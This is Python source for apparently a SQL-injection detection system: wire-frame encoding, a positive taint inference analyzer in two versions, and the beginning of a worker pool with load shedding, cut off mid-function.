    count = _check_header(frame, KIND_GW_REPLY)
    n = len(frame)
    offset = _HEADER.size
    payloads: list[bytes] = []
    for _ in range(count):
        if offset + _U32.size > n:
            raise WireFormatError("truncated verdict length prefix")
        (blen,) = _U32.unpack_from(frame, offset)
        offset += _U32.size
        if offset + blen > n:
            raise WireFormatError("truncated verdict payload")
        payloads.append(bytes(frame[offset : offset + blen]))
        offset += blen
    if offset != n:
        raise WireFormatError(f"{n - offset} trailing bytes after reply frame")
    return payloads


#: Gateway error codes.  Every one resolves fail-closed at the client; the
#: code only attributes *why* (admission shed vs protocol damage vs drain).
GW_ERR_BAD_FRAME = 1
GW_ERR_OVERSIZED = 2
GW_ERR_DRAINING = 3
GW_ERR_INTERNAL = 4

_GW_ERROR_CODES = frozenset(
    {GW_ERR_BAD_FRAME, GW_ERR_OVERSIZED, GW_ERR_DRAINING, GW_ERR_INTERNAL}
)


def pack_gateway_error(code: int, message: str) -> bytes:
    """Pack a protocol-level refusal (always fail-closed client-side)."""
    if code not in _GW_ERROR_CODES:
        raise WireFormatError(f"unknown gateway error code: {code}")
    parts: list[bytes] = [
        _HEADER.pack(MAGIC, VERSION, KIND_GW_ERROR, 1),
        struct.pack("<B", code),
    ]
    _pack_str16(parts, message)
    return b"".join(parts)


def unpack_gateway_error(frame: bytes) -> tuple[int, str]:
    """Decode an error frame: ``(code, message)`` (fail-closed)."""
    count = _check_header(frame, KIND_GW_ERROR)
    if count != 1:
        raise WireFormatError(f"gateway error frame count must be 1, got {count}")
    n = len(frame)
    offset = _HEADER.size
    if offset + 1 > n:
        raise WireFormatError("truncated gateway error code")
    code = frame[offset]
    offset += 1
    if code not in _GW_ERROR_CODES:
        raise WireFormatError(f"unknown gateway error code: {code}")
    message, offset = _unpack_str16(frame, offset, "error message")
    if offset != n:
        raise WireFormatError(f"{n - offset} trailing bytes after error frame")
    return code, message


# ----------------------------------------------------------------------
# Fragment-store snapshot frames (tenancy replication push)
# ----------------------------------------------------------------------
#
# One frame replicates one ``_StoreState`` snapshot -- the whole fragment
# tuple plus its epoch and owning tenant -- to a daemon child or gateway
# worker on epoch bump (DESIGN.md section 13).  Packed once per epoch by
# the registry/pool and reused for every push of that epoch, so a fleet
# of N workers pays one serialisation, not N.  The header ``count`` field
# is fixed at 1 (one store per frame); the real fragment count is a u32
# in the body because paper-scale vocabularies exceed the u16 header
# field.  The child acknowledges with a KIND_SNAPSHOT_ACK echoing the
# epoch, sent only after the new vocabulary is applied *and warmed*, so
# the pusher knows the swap is complete.

_I64 = struct.Struct("<q")


def pack_store_snapshot(
    fragments: Sequence[str], epoch: int, tenant: str = ""
) -> bytearray:
    """Pack one store snapshot into a pre-sized replication frame."""
    encoded = [f.encode("utf-8", "surrogatepass") for f in fragments]
    if len(encoded) > 0xFFFFFFFF:
        raise WireFormatError(f"snapshot of {len(encoded)} fragments exceeds u32")
    tenant_raw = tenant.encode("utf-8", "surrogatepass")
    if len(tenant_raw) > 0xFFFF:
        raise WireFormatError(f"tenant id of {len(tenant_raw)} bytes exceeds u16")
    total = (
        _HEADER.size
        + _I64.size
        + _U16.size
        + len(tenant_raw)
        + _U32.size
        + sum(_U32.size + len(fb) for fb in encoded)
    )
    if total > MAX_FRAME:
        raise WireFormatError(
            f"snapshot frame of {total} bytes exceeds MAX_FRAME={MAX_FRAME}"
        )
    frame = bytearray(total)
    _HEADER.pack_into(frame, 0, MAGIC, VERSION, KIND_SNAPSHOT, 1)
    offset = _HEADER.size
    _I64.pack_into(frame, offset, epoch)
    offset += _I64.size
    _U16.pack_into(frame, offset, len(tenant_raw))
    offset += _U16.size
    frame[offset : offset + len(tenant_raw)] = tenant_raw
    offset += len(tenant_raw)
    _U32.pack_into(frame, offset, len(encoded))
    offset += _U32.size
    for fb in encoded:
        _U32.pack_into(frame, offset, len(fb))
        offset += _U32.size
        frame[offset : offset + len(fb)] = fb
        offset += len(fb)
    return frame


def unpack_store_snapshot(frame: bytes) -> tuple[str, int, list[str]]:
    """Decode a snapshot frame: ``(tenant, epoch, fragments)`` (fail-closed)."""
    count = _check_header(frame, KIND_SNAPSHOT)
    if count != 1:
        raise WireFormatError(f"snapshot frame count must be 1, got {count}")
    n = len(frame)
    offset = _HEADER.size
    if offset + _I64.size > n:
        raise WireFormatError("truncated snapshot epoch")
    (epoch,) = _I64.unpack_from(frame, offset)
    offset += _I64.size
    tenant, offset = _unpack_str16(frame, offset, "tenant id")
    if offset + _U32.size > n:
        raise WireFormatError("truncated snapshot fragment count")
    (nfrags,) = _U32.unpack_from(frame, offset)
    offset += _U32.size
    # Each fragment costs at least its u32 length prefix; a count the
    # remaining bytes cannot possibly hold is a hostile header.
    if nfrags * _U32.size > n - offset:
        raise WireFormatError(f"snapshot fragment count out of range: {nfrags}")
    fragments: list[str] = []
    for _ in range(nfrags):
        if offset + _U32.size > n:
            raise WireFormatError("truncated fragment length prefix")
        (blen,) = _U32.unpack_from(frame, offset)
        offset += _U32.size
        if offset + blen > n:
            raise WireFormatError("truncated fragment payload")
        fragments.append(
            _decode_text(bytes(frame[offset : offset + blen]), "fragment")
        )
        offset += blen
    if offset != n:
        raise WireFormatError(f"{n - offset} trailing bytes after snapshot frame")
    return tenant, epoch, fragments


def pack_snapshot_ack(epoch: int) -> bytes:
    """Pack the child's applied-and-warm acknowledgement for ``epoch``."""
    return _HEADER.pack(MAGIC, VERSION, KIND_SNAPSHOT_ACK, 1) + _I64.pack(epoch)


def unpack_snapshot_ack(frame: bytes) -> int:
    """Decode an ack frame back to the applied epoch (fail-closed)."""
    count = _check_header(frame, KIND_SNAPSHOT_ACK)
    if count != 1:
        raise WireFormatError(f"snapshot ack count must be 1, got {count}")
    if len(frame) != _HEADER.size + _I64.size:
        raise WireFormatError(f"snapshot ack of {len(frame)} bytes is malformed")
    (epoch,) = _I64.unpack_from(frame, _HEADER.size)
    return epoch
