"""Positive taint inference (PTI).

Implements the algorithm of paper Section III-B: every security-critical
token of an intercepted query must be *fully contained within a single
occurrence of a single program fragment*.  Fragments cannot be combined to
cover one token ("PTI does not allow the critical token OR to be created by
combining the single-letter fragments O and R"), and a comment is one
critical token that must sit inside one fragment.

Two matching engines implement that rule (DESIGN.md section 9), selected by
:attr:`PTIConfig.matcher`:

- ``"scan"`` -- the paper's per-token search with the daemon's two
  Section VI-A optimizations: critical tokens are extracted first and only
  inverted-index candidates containing a token's text are tried, after an
  MRU list of recently-matching fragments.  Kept verbatim as the
  differential oracle (it mirrors the published system).
- ``"automaton"`` -- the one-pass engine: an Aho-Corasick automaton
  (:mod:`repro.pti.automaton`) compiled per fragment-store epoch streams
  the query once, emits every fragment-occurrence interval, and answers
  each token's coverage with an interval-stabbing lookup.
  ``O(|query| + occurrences + tokens log occurrences)`` instead of
  ``O(tokens x candidates)``.
- ``"auto"`` (default) resolves to the automaton once the vocabulary is
  large enough for the per-character walk to beat a handful of
  ``str.find`` calls (:data:`AUTO_AUTOMATON_MIN_FRAGMENTS`), and to the
  scan below that.

Counters on the analyzer record how much matching work was performed, which
the Figure 7 bench uses to show the optimization effect.  **Semantics
change with the matcher**: the scan counts fragment-vs-token containment
checks; the automaton counts node transitions (goto steps + fail follows).

The analyzer also owns its staleness guard: every public entry point
epoch-checks the fragment store and, on mutation, prunes revoked fragments
from the MRU (a removed fragment lingering there would keep "covering"
tokens -- containment checks consult only the query text, never store
membership) and drops the compiled automaton and per-query occurrence memo.
"""

from __future__ import annotations

import threading
from dataclasses import dataclass

from ..core.verdict import AnalysisResult, Detection, TaintMarking, Technique
from ..sqlparser.parser import critical_tokens
from ..sqlparser.tokens import Token
from .automaton import FragmentAutomaton, OccurrenceIndex
from .caches import MRUFragmentCache
from .fragments import FragmentStore, token_index_key

__all__ = [
    "PTIConfig",
    "PTIAnalyzer",
    "PTI_MATCHER_CHOICES",
    "AUTO_AUTOMATON_MIN_FRAGMENTS",
]

#: Valid values of :attr:`PTIConfig.matcher` (mirrors the NTI
#: ``matcher=auto|dp|bitparallel`` surface).
PTI_MATCHER_CHOICES = ("auto", "scan", "automaton")

#: ``matcher="auto"`` switches to the automaton at this vocabulary size.
#: Below it, a token's candidate list is a handful of C-level ``str.find``
#: calls, which beat a per-character Python automaton walk; above it the
#: one-pass engine wins and keeps winning (its cost is store-size
#: independent).  Evaluated per call, so stores that grow past the
#: threshold switch over automatically.
AUTO_AUTOMATON_MIN_FRAGMENTS = 16


@dataclass(frozen=True)
class PTIConfig:
    """Tunables for the PTI component.

    Attributes:
        use_mru: try the most-recently-used fragment list first (scan
            matcher only; the automaton has no per-token search to skip).
        use_token_index: restrict the fragment scan to index candidates;
            disabling both knobs yields the unoptimized full scan of the
            paper's initial implementation (Figure 7's "unoptimized" bar).
        mru_capacity: size of the MRU list.
        matcher: matching-engine selector -- ``"auto"`` (automaton for
            vocabularies of at least
            :data:`AUTO_AUTOMATON_MIN_FRAGMENTS` fragments, scan below),
            ``"scan"`` (the per-token oracle) or ``"automaton"``.  All
            produce identical verdicts, detections and marking spans; the
            knob exists for the matcher ablation and differential testing.
    """

    use_mru: bool = True
    use_token_index: bool = True
    mru_capacity: int = 64
    matcher: str = "auto"

    def __post_init__(self) -> None:
        if self.matcher not in PTI_MATCHER_CHOICES:
            raise ValueError(
                f"unknown pti matcher {self.matcher!r}; "
                f"expected one of {PTI_MATCHER_CHOICES}"
            )


class PTIAnalyzer:
    """Checks critical-token coverage of queries against a fragment store."""

    def __init__(
        self, store: FragmentStore, config: PTIConfig | None = None
    ) -> None:
        self.store = store
        self.config = config or PTIConfig()
        self.mru = MRUFragmentCache(self.config.mru_capacity)
        #: Guards the derived-state block (epoch guard, compiled automaton,
        #: occurrence memo) so concurrent callers cannot interleave a stale
        #: prune with a fresh compile.  Reentrant because the public
        #: entry points nest (``analyze`` -> ``cover_token_witness`` ->
        #: ``occurrence_index``).  Held across the in-process match work --
        #: acceptable because in-process Python matching is GIL-serialized
        #: anyway; parallel PTI throughput comes from the subprocess pool
        #: (DESIGN.md section 10).
        self._lock = threading.RLock()
        #: Total matching work performed (Fig. 7).  Unit depends on the
        #: matcher: fragment-vs-token containment checks for the scan,
        #: automaton node transitions for the one-pass engine.
        self.comparisons = 0
        #: Fragment-store epoch the MRU/automaton state is valid for.
        self._epoch = store.epoch
        #: Lazily compiled Aho-Corasick automaton (automaton matcher).
        self._automaton: FragmentAutomaton | None = None
        #: Last-query occurrence-index memo: one streaming pass serves every
        #: token of a query -- including the shape cache's per-hit recheck
        #: tokens, which arrive as separate ``cover_token_witness`` calls.
        self._occ_query: str | None = None
        self._occ_index: OccurrenceIndex | None = None
        # Observability (surfaced via JozaEngine.cache_stats()).
        self.automaton_builds = 0
        self.occ_index_builds = 0
        self.occ_index_reuses = 0
        self.mru_prunes = 0

    # ------------------------------------------------------------------
    # Matcher selection & staleness guard
    # ------------------------------------------------------------------

    @property
    def resolved_matcher(self) -> str:
        """The engine ``"auto"`` resolves to right now (store-size aware)."""
        matcher = self.config.matcher
        if matcher != "auto":
            return matcher
        return (
            "automaton"
            if len(self.store) >= AUTO_AUTOMATON_MIN_FRAGMENTS
            else "scan"
        )

    def _sync_store(self) -> None:
        """Epoch-check against the store; drop stale derived state.

        Bugfix (previously the MRU was *never* invalidated on store
        mutation): after ``remove()``/``reload()`` a revoked fragment in
        the MRU could still cover critical tokens -- stale trust that
        fails open.  The MRU is pruned against current store membership
        (surviving fragments keep their recency), and the compiled
        automaton plus the per-query occurrence memo are dropped so the
        one-pass engine is recompiled over the new vocabulary.
        """
        epoch = self.store.epoch
        if epoch != self._epoch:
            self._epoch = epoch
            if self.mru.prune(self.store.__contains__):
                self.mru_prunes += 1
            self._automaton = None
            self._occ_query = None
            self._occ_index = None

    def occurrence_index(self, query: str) -> OccurrenceIndex:
        """The query's fragment-occurrence interval index (memoised).

        Compiles the automaton on first use per store epoch, then serves
        repeated lookups for the *same* query string (the per-token loop of
        :meth:`analyze`, the engine's shape-cache recheck path) from the
        single streaming pass already performed.
        """
        with self._lock:
            self._sync_store()
            previous = self._occ_query
            if previous is not None and (previous is query or previous == query):
                self.occ_index_reuses += 1
                return self._occ_index
            automaton = self._automaton
            if automaton is None:
                # Resolve through the store's per-state cell so every
                # analyzer of one store shares a single compile per epoch
                # (and a warm handoff's precompiled automaton is free).
                # ``automaton_builds`` keeps its meaning -- builds *this*
                # analyzer triggered -- via the built_now flag.
                shared = getattr(self.store, "compiled_automaton", None)
                if callable(shared):
                    automaton, built_now = shared()
                else:
                    automaton = FragmentAutomaton.from_store(self.store)
                    built_now = True
                self._automaton = automaton
                if built_now:
                    self.automaton_builds += 1
            index = automaton.index(query)
            self.comparisons += index.transitions
            self.occ_index_builds += 1
            self._occ_query = query
            self._occ_index = index
            return index

    def warm(self) -> None:
        """Precompile the resolved matcher's derived state (warm handoff).

        Called off the request path (snapshot application in a daemon
        child, worker refresh in the pool) so the first query after an
        epoch swap finds a ready automaton instead of paying the
        per-epoch build inline.  A no-op for the scan matcher.
        """
        with self._lock:
            self._sync_store()
            if self.resolved_matcher != "automaton":
                return
            if self._automaton is None:
                shared = getattr(self.store, "compiled_automaton", None)
                if callable(shared):
                    automaton, built_now = shared()
                else:
                    automaton = FragmentAutomaton.from_store(self.store)
                    built_now = True
                self._automaton = automaton
                if built_now:
                    self.automaton_builds += 1

    def matcher_stats(self) -> dict[str, float]:
        """Matching-engine counters for the unified cache introspection."""
        automaton = self._automaton
        return {
            "comparisons": float(self.comparisons),
            "automaton_builds": float(self.automaton_builds),
            "automaton_nodes": float(automaton.node_count if automaton else 0),
            "automaton_fragments": float(
                len(automaton.fragments) if automaton else 0
            ),
            "occ_index_builds": float(self.occ_index_builds),
            "occ_index_reuses": float(self.occ_index_reuses),
            "mru_prunes": float(self.mru_prunes),
        }

    # ------------------------------------------------------------------
    # Scan matcher (the per-token oracle)
    # ------------------------------------------------------------------

    def _covering_position(
        self, fragment: str, query: str, token: Token
    ) -> int | None:
        """Start offset of an occurrence of ``fragment`` containing the token.

        Only occurrences overlapping the token can matter, so the search
        starts at the earliest position where the occurrence could still
        cover the token.  Returns ``None`` when no occurrence covers it.
        """
        self.comparisons += 1
        flen = len(fragment)
        span = token.end - token.start
        if flen < span:
            return None
        # Earliest start such that start + flen >= token.end:
        search_from = max(token.end - flen, 0)
        pos = query.find(fragment, search_from, token.start + flen)
        while pos >= 0:
            if pos <= token.start and token.end <= pos + flen:
                return pos
            if pos > token.start:
                break
            pos = query.find(fragment, pos + 1, token.start + flen)
        return None

    def _fragment_covers(self, fragment: str, query: str, token: Token) -> bool:
        """Whether some occurrence of ``fragment`` in ``query`` contains the token."""
        return self._covering_position(fragment, query, token) is not None

    def _scan_witness(self, query: str, token: Token) -> tuple[str, int] | None:
        """Per-token MRU + index candidate search (the scan matcher)."""
        tried: set[str] = set()
        if self.config.use_mru:
            for fragment in self.mru.items():
                if fragment in tried:
                    continue
                tried.add(fragment)
                pos = self._covering_position(fragment, query, token)
                if pos is not None:
                    self.mru.touch(fragment)
                    return fragment, pos
        if self.config.use_token_index:
            candidates = self.store.iter_candidates(token_index_key(token))
        else:
            candidates = self.store.iter_all()
        for fragment in candidates:
            if fragment in tried:
                continue
            tried.add(fragment)
            pos = self._covering_position(fragment, query, token)
            if pos is not None:
                if self.config.use_mru:
                    self.mru.touch(fragment)
                return fragment, pos
        return None

    # ------------------------------------------------------------------
    # Public coverage API (matcher-dispatching)
    # ------------------------------------------------------------------

    def cover_token_witness(
        self, query: str, token: Token
    ) -> tuple[str, int] | None:
        """Find a covering fragment *and* the occurrence that covers the token.

        Returns ``(fragment, occurrence_start)`` or ``None``.  The witness
        position is always the exact start of a real occurrence; the shape
        cache uses it to classify a structure token's coverage as
        slot-independent (occurrence confined to one inter-literal segment)
        or literal-dependent (occurrence crosses a slot, so it must be
        re-verified per query instance).

        Which covering fragment is returned may differ between matchers
        (the scan returns the first MRU/index candidate that covers, the
        automaton a canonical max-reach occurrence); coverage *existence*
        -- and therefore every verdict -- is identical.
        """
        with self._lock:
            self._sync_store()
            if self.resolved_matcher == "automaton":
                return self.occurrence_index(query).witness(
                    token.start, token.end
                )
            return self._scan_witness(query, token)

    def _cover_token(self, query: str, token: Token) -> str | None:
        """Find a fragment covering ``token``; returns it or ``None``."""
        witness = self.cover_token_witness(query, token)
        return None if witness is None else witness[0]

    def analyze(
        self,
        query: str,
        tokens: list[Token] | None = None,
    ) -> AnalysisResult:
        """Run PTI over one query.

        Args:
            query: the intercepted SQL string.
            tokens: optional pre-computed critical tokens (the daemon parses
                once and shares them with NTI).
        """
        crit = tokens if tokens is not None else critical_tokens(query)
        markings: list[TaintMarking] = []
        detections: list[Detection] = []
        for token in crit:
            fragment = self._cover_token(query, token)
            if fragment is None:
                detections.append(
                    Detection(
                        technique=Technique.PTI,
                        reason="critical token not covered by any program fragment",
                        token_text=token.text,
                        token_start=token.start,
                        token_end=token.end,
                    )
                )
            else:
                markings.append(
                    TaintMarking(
                        start=token.start,
                        end=token.end,
                        technique=Technique.PTI,
                        origin=fragment,
                    )
                )
        return AnalysisResult(
            technique=Technique.PTI,
            safe=not detections,
            markings=markings,
            detections=detections,
        )
