"""Positive taint inference (PTI).

Implements the algorithm of paper Section III-B: every security-critical
token of an intercepted query must be *fully contained within a single
occurrence of a single program fragment*.  Fragments cannot be combined to
cover one token ("PTI does not allow the critical token OR to be created by
combining the single-letter fragments O and R"), and a comment is one
critical token that must sit inside one fragment.

The matcher applies the daemon's two optimizations (Section VI-A):

1. critical tokens are extracted first, and only fragments containing a
   token's text (via the store's inverted index) are tried against it;
2. an MRU list of recently-matching fragments is tried before the index,
   exploiting the application's query working set.

Counters on the analyzer record how many fragment comparisons were
performed, which the Figure 7 bench uses to show the optimization effect.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..core.verdict import AnalysisResult, Detection, TaintMarking, Technique
from ..sqlparser.parser import critical_tokens
from ..sqlparser.tokens import Token
from .caches import MRUFragmentCache
from .fragments import FragmentStore, token_index_key

__all__ = ["PTIConfig", "PTIAnalyzer"]


@dataclass(frozen=True)
class PTIConfig:
    """Tunables for the PTI component.

    Attributes:
        use_mru: try the most-recently-used fragment list first.
        use_token_index: restrict the fragment scan to index candidates;
            disabling both knobs yields the unoptimized full scan of the
            paper's initial implementation (Figure 7's "unoptimized" bar).
        mru_capacity: size of the MRU list.
    """

    use_mru: bool = True
    use_token_index: bool = True
    mru_capacity: int = 64


class PTIAnalyzer:
    """Checks critical-token coverage of queries against a fragment store."""

    def __init__(
        self, store: FragmentStore, config: PTIConfig | None = None
    ) -> None:
        self.store = store
        self.config = config or PTIConfig()
        self.mru = MRUFragmentCache(self.config.mru_capacity)
        #: Total fragment-vs-token containment checks performed (Fig. 7).
        self.comparisons = 0

    # ------------------------------------------------------------------

    def _covering_position(
        self, fragment: str, query: str, token: Token
    ) -> int | None:
        """Start offset of an occurrence of ``fragment`` containing the token.

        Only occurrences overlapping the token can matter, so the search
        starts at the earliest position where the occurrence could still
        cover the token.  Returns ``None`` when no occurrence covers it.
        """
        self.comparisons += 1
        flen = len(fragment)
        span = token.end - token.start
        if flen < span:
            return None
        # Earliest start such that start + flen >= token.end:
        search_from = max(token.end - flen, 0)
        pos = query.find(fragment, search_from, token.start + flen)
        while pos >= 0:
            if pos <= token.start and token.end <= pos + flen:
                return pos
            if pos > token.start:
                break
            pos = query.find(fragment, pos + 1, token.start + flen)
        return None

    def _fragment_covers(self, fragment: str, query: str, token: Token) -> bool:
        """Whether some occurrence of ``fragment`` in ``query`` contains the token."""
        return self._covering_position(fragment, query, token) is not None

    def cover_token_witness(
        self, query: str, token: Token
    ) -> tuple[str, int] | None:
        """Find a covering fragment *and* the occurrence that covers the token.

        Returns ``(fragment, occurrence_start)`` or ``None``.  The witness
        position is what the shape cache uses to classify a structure
        token's coverage as slot-independent (occurrence confined to one
        inter-literal segment) or literal-dependent (occurrence crosses a
        slot, so it must be re-verified per query instance).
        """
        tried: set[str] = set()
        if self.config.use_mru:
            for fragment in self.mru.items():
                if fragment in tried:
                    continue
                tried.add(fragment)
                pos = self._covering_position(fragment, query, token)
                if pos is not None:
                    self.mru.touch(fragment)
                    return fragment, pos
        if self.config.use_token_index:
            candidates = self.store.iter_candidates(token_index_key(token))
        else:
            candidates = self.store.iter_all()
        for fragment in candidates:
            if fragment in tried:
                continue
            tried.add(fragment)
            pos = self._covering_position(fragment, query, token)
            if pos is not None:
                if self.config.use_mru:
                    self.mru.touch(fragment)
                return fragment, pos
        return None

    def _cover_token(self, query: str, token: Token) -> str | None:
        """Find a fragment covering ``token``; returns it or ``None``."""
        witness = self.cover_token_witness(query, token)
        return None if witness is None else witness[0]

    def analyze(
        self,
        query: str,
        tokens: list[Token] | None = None,
    ) -> AnalysisResult:
        """Run PTI over one query.

        Args:
            query: the intercepted SQL string.
            tokens: optional pre-computed critical tokens (the daemon parses
                once and shares them with NTI).
        """
        crit = tokens if tokens is not None else critical_tokens(query)
        markings: list[TaintMarking] = []
        detections: list[Detection] = []
        for token in crit:
            fragment = self._cover_token(query, token)
            if fragment is None:
                detections.append(
                    Detection(
                        technique=Technique.PTI,
                        reason="critical token not covered by any program fragment",
                        token_text=token.text,
                        token_start=token.start,
                        token_end=token.end,
                    )
                )
            else:
                markings.append(
                    TaintMarking(
                        start=token.start,
                        end=token.end,
                        technique=Technique.PTI,
                        origin=fragment,
                    )
                )
        return AnalysisResult(
            technique=Technique.PTI,
            safe=not detections,
            markings=markings,
            detections=detections,
        )
