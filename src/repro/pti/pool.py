"""PTI daemon pool: N workers, bounded admission, load shedding.

The paper deploys PTI as one native daemon per application.  Under
concurrent request load a single child pipe becomes the bottleneck: the
pipe is strict FIFO, so every in-flight query serializes behind the
slowest one.  :class:`DaemonPool` multiplexes requests over ``size``
independent :class:`~repro.pti.daemon.SubprocessPTIDaemon` workers -- each
with its own child process, pipe, retry policy and circuit breaker -- so
request service times overlap (the parent threads block in ``poll``/
``recv`` with the GIL released while children analyse).

Overload behavior is explicit, not emergent (DESIGN.md section 10):

- **Admission control** -- at most ``size + max_queue`` requests are ever
  inside the pool.  A request beyond that is *shed immediately* (no
  unbounded queue, no latency collapse).
- **Deadline-aware checkout** -- an admitted request waits for a free
  worker at most ``admission_timeout`` seconds, clamped to the query's
  remaining deadline.  Expiry sheds.
- **Shed semantics** -- every shed raises
  :class:`~repro.core.resilience.PoolSaturated` whose ``fail_closed`` flag
  carries the configured :class:`~repro.core.resilience.OverloadPolicy`:
  ``SHED_FAIL_CLOSED`` (default) makes the engine block the query
  fail-closed; ``DEGRADE_TO_OTHER_TECHNIQUE`` lets it degrade to an
  NTI-only verdict.  A shed request is **never silently dropped** -- the
  engine records a verdict for it either way.
- **Worker replacement** -- a worker whose calls fail
  ``replace_after`` consecutive times is torn down (child reaped) and
  replaced with a fresh one; the pool never shrinks below ``size``.

Thread-safety: the free-worker list is a :class:`queue.Queue` (one worker
is checked out by exactly one thread at a time, so the per-worker pipe
never sees interleaved requests), admission is a
:class:`threading.BoundedSemaphore`, and the counters live behind a stats
lock.  ``close()`` is idempotent and reaps every worker, including ones
returned late by in-flight requests.
"""

from __future__ import annotations

import queue
import threading
import time
from collections import deque
from typing import Callable

from ..core.resilience import (
    DaemonUnavailable,
    Deadline,
    OverloadPolicy,
    PTIFailure,
    PoolSaturated,
)
from . import wire
from .daemon import DaemonConfig, DaemonReply, SubprocessPTIDaemon
from .fragments import FragmentStore

__all__ = ["DaemonPool", "PoolWorker"]


class PoolWorker:
    """One pool slot: a daemon plus its health bookkeeping.

    A worker is owned by at most one request thread at a time (checkout via
    the pool's free queue), so its mutable fields need no extra locking
    beyond the daemon's own.
    """

    __slots__ = (
        "worker_id",
        "daemon",
        "generation",
        "served",
        "failures",
        "consecutive_failures",
    )

    def __init__(self, worker_id: int, daemon, generation: int) -> None:
        self.worker_id = worker_id
        self.daemon = daemon
        #: Fragment-set generation the daemon was (last) built against.
        self.generation = generation
        self.served = 0
        self.failures = 0
        self.consecutive_failures = 0

    def health(self) -> dict[str, object]:
        out: dict[str, object] = {
            "worker_id": self.worker_id,
            "served": self.served,
            "failures": self.failures,
            "consecutive_failures": self.consecutive_failures,
            "generation": self.generation,
        }
        snapshot = getattr(self.daemon, "resilience_snapshot", None)
        if callable(snapshot):
            out["daemon"] = snapshot()
        return out


class DaemonPool:
    """Bounded pool of PTI daemon workers with explicit overload policy.

    Drop-in for the single :class:`~repro.pti.daemon.SubprocessPTIDaemon`
    slot of :class:`~repro.core.JozaEngine`: exposes ``analyze_query``
    (deadline-aware), ``store``, ``refresh_fragments``,
    ``resilience_snapshot`` and ``close``.

    Args:
        store: fragment vocabulary served to workers.
        config: daemon cache/optimization switches.
        size: number of workers (children) kept alive.
        max_queue: admitted requests allowed to *wait* beyond the ``size``
            in service; ``size + max_queue`` is the hard in-flight bound.
        overload_policy: what a shed means downstream (fail closed vs
            degrade to NTI-only).
        admission_timeout: max seconds an admitted request waits for a free
            worker (clamped to the query deadline).  Bounds worst-case
            inspect latency even with an unbounded deadline.
        replace_after: consecutive worker-call failures that trigger
            replacement of that worker.
        daemon_factory: ``(store, config, worker_index) -> daemon`` --
            override to pool fakes (tests) or tune per-worker daemons;
            defaults to persistent :class:`SubprocessPTIDaemon` workers.
        seed: base RNG seed forwarded to default workers (worker ``i`` gets
            ``seed + i``) so chaos runs are reproducible.
    """

    def __init__(
        self,
        store: FragmentStore,
        config: DaemonConfig | None = None,
        *,
        size: int = 2,
        max_queue: int = 8,
        overload_policy: OverloadPolicy = OverloadPolicy.SHED_FAIL_CLOSED,
        admission_timeout: float = 1.0,
        replace_after: int = 3,
        daemon_factory: Callable[[FragmentStore, DaemonConfig, int], object]
        | None = None,
        seed: int | None = None,
    ) -> None:
        if size <= 0:
            raise ValueError("pool size must be positive")
        if max_queue < 0:
            raise ValueError("max_queue must be non-negative")
        if admission_timeout <= 0:
            raise ValueError("admission_timeout must be positive")
        if replace_after <= 0:
            raise ValueError("replace_after must be positive")
        self.size = size
        self.max_queue = max_queue
        self.overload_policy = overload_policy
        self.admission_timeout = admission_timeout
        self.replace_after = replace_after
        self.config = config or DaemonConfig()
        self._seed = seed
        self._factory = daemon_factory or self._default_factory
        self._store = store
        self._generation = 0
        #: Packed snapshot frame of the current generation (one-shot
        #: serialisation per refresh, shared by every worker push); None
        #: until the first refresh or when the store exceeds the wire
        #: frame bound (workers then fall back to the legacy refresh).
        self._snapshot_frame: bytes | None = None
        #: Hard bound on requests inside the pool (in service + waiting).
        self._admission = threading.BoundedSemaphore(size + max_queue)
        #: Free workers; checkout gives one thread exclusive pipe access.
        self._free: queue.Queue[PoolWorker] = queue.Queue()
        #: Guards counters, generation bumps, close state and worker ids.
        self._lock = threading.RLock()
        self._closed = False
        self._next_worker_id = 0
        self._inflight = 0
        # Shed / saturation accounting.
        self.checkouts = 0
        self.sheds_queue_full = 0
        self.sheds_no_worker = 0
        self.replacements = 0
        # Replication accounting: worker refreshes actually performed
        # (zero under steady-state traffic -- the checkout hot path is one
        # int compare), split by how the new vocabulary reached the worker.
        self.refreshes = 0
        self.snapshot_pushes = 0
        self.snapshot_push_failures = 0
        self._wait_samples: deque[float] = deque(maxlen=2048)
        for _ in range(size):
            self._free.put(self._new_worker())

    # ------------------------------------------------------------------
    # Worker lifecycle
    # ------------------------------------------------------------------

    def _default_factory(
        self, store: FragmentStore, config: DaemonConfig, index: int
    ):
        seed = None if self._seed is None else self._seed + index
        return SubprocessPTIDaemon(store, config, persistent=True, seed=seed)

    def _new_worker(self) -> PoolWorker:
        with self._lock:
            worker_id = self._next_worker_id
            self._next_worker_id += 1
            generation = self._generation
            store = self._store
        daemon = self._factory(store, self.config, worker_id)
        return PoolWorker(worker_id, daemon, generation)

    @staticmethod
    def _close_daemon(daemon) -> None:
        close = getattr(daemon, "close", None)
        if callable(close):
            try:
                close()
            except Exception:  # pragma: no cover - defensive teardown
                pass

    def _replace_worker(self, worker: PoolWorker) -> PoolWorker:
        """Tear the worker's daemon down and build a fresh slot."""
        self._close_daemon(worker.daemon)
        with self._lock:
            self.replacements += 1
        return self._new_worker()

    # ------------------------------------------------------------------
    # Admission + checkout
    # ------------------------------------------------------------------

    def _shed(self, reason: str, counter: str) -> PoolSaturated:
        fail_closed = self.overload_policy is OverloadPolicy.SHED_FAIL_CLOSED
        with self._lock:
            setattr(self, counter, getattr(self, counter) + 1)
        return PoolSaturated(reason, fail_closed=fail_closed)

    def analyze_query(
        self, query: str, deadline: Deadline | None = None
    ) -> DaemonReply:
        """Admit, check out a worker, run the query, return the worker.

        Raises :class:`~repro.core.resilience.PoolSaturated` on shed,
        :class:`~repro.core.resilience.DaemonUnavailable` when the pool is
        closed, and otherwise propagates exactly what the worker's
        ``analyze_query`` raises (the typed
        :class:`~repro.core.resilience.PTIFailure` family /
        :class:`~repro.core.resilience.DeadlineExceeded`).
        """
        if self._closed:
            raise DaemonUnavailable("daemon pool is closed")
        if deadline is None:
            deadline = Deadline.unbounded()
        if not self._admission.acquire(blocking=False):
            raise self._shed(
                f"shed: admission queue full "
                f"(in_flight={self.size + self.max_queue})",
                "sheds_queue_full",
            )
        try:
            with self._lock:
                self._inflight += 1
            worker = self._checkout(deadline)
            try:
                reply = worker.daemon.analyze_query(query, deadline=deadline)
            except PTIFailure:
                worker.failures += 1
                worker.consecutive_failures += 1
                self._release(worker)
                raise
            except BaseException:
                # Deadline expiry / interrupts are not the worker's fault.
                self._release(worker)
                raise
            worker.served += 1
            worker.consecutive_failures = 0
            self._release(worker)
            return reply
        finally:
            with self._lock:
                self._inflight -= 1
            self._admission.release()

    def analyze_batch(
        self, queries: list[str], deadline: Deadline | None = None
    ) -> list[DaemonReply]:
